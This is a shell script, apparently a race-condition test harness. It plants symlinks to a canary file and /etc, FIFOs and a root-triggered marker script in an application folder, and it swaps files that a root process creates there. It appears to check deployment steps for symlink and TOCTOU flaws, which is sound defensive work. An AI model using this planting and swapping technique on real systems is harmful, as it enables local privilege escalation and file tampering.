#!/bin/sh
# race.sh APP CANARY RAN: what an account can do that owns the application's folder APP and wants to read or change root's
# file CANARY, or have something run as root that makes RAN. Until it is killed; it prints a line for each thing that it has
# planted, and for each file of the run that it has swapped.
app=$1 canary=$2 ran=$3
cd "$app" || exit 1
evil="#!/bin/sh
[ \"\$(id -u)\" != 0 ] || : > $ran"
# plant NAME: each time something else; never over what is there, because a pipe would be waited for
plant() {
    ! [ -e "$1" ] && ! [ -L "$1" ] || return
    turn=$((turn + 1))
    case $((turn % 5)) in
    0) ln -s "$canary" "$1" ;;
    1) mkdir "$1" ;;
    2) mkfifo "$1" ;;
    3) printf '%s\n' "$evil" > "$1"; chmod 755 "$1" ;;
    4) ln -s /etc "$1" ;;
    esac 2>/dev/null && echo planted
}
# what root makes here while it makes it; nothing is started to look for it, so the look is quick
swap_new() {
    for new in .cutover.* .cutover-*; do
        [ -f "$new" ] && [ ! -L "$new" ] && [ ! -O "$new" ] || continue
        mv "$new" "aside.$turn" 2>/dev/null && echo "swapped $new" && plant "./$new"
    done
}
turn=0 round=0
while :; do
    round=$((round + 1))
    # every name below the folder that stands on a command line of root's, and those that can be made from it
    for name in $(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0 '\''"=;' '\n\n\n\n\n\n' |
        grep -a -o -e "$app/[A-Za-z0-9._-]*" -e '\.cutover[.-][A-Za-z0-9-]*' | sort -u); do
        name=${name##*/}
        case $name in db.env | '' | . | .. | *.part | *.new | *.bak) continue ;; esac
        for one in "$name" "$name.part" "$name.new" "$name.bak"; do
            case $((round % 3)) in
            0) rm -rf "./$one" 2>/dev/null ;;
            *) plant "./$one" ;;
            esac
        done
    done
    look=0
    while [ "$look" -lt 100 ]; do
        swap_new
        look=$((look + 1))
    done
    # and the file itself, for moments
    if [ $((round % 4)) = 0 ] && [ -f db.env ] && [ ! -L db.env ]; then
        mv db.env mine 2>/dev/null && plant ./db.env && echo "swapped db.env"
        sleep 0.0$((round % 7))
        rm -rf ./db.env aside.*
        mv -n mine db.env 2>/dev/null
    fi
    [ -e db.env ] || cp mine db.env 2>/dev/null || echo 'DB_HOST=127.0.0.1' > db.env
    # a while of peace now and then, or no switch would ever come to its end, and processors for whoever is raced
    if [ $((round % 20)) -lt 12 ]; then sleep 0.02; else sleep 0.3; fi
done
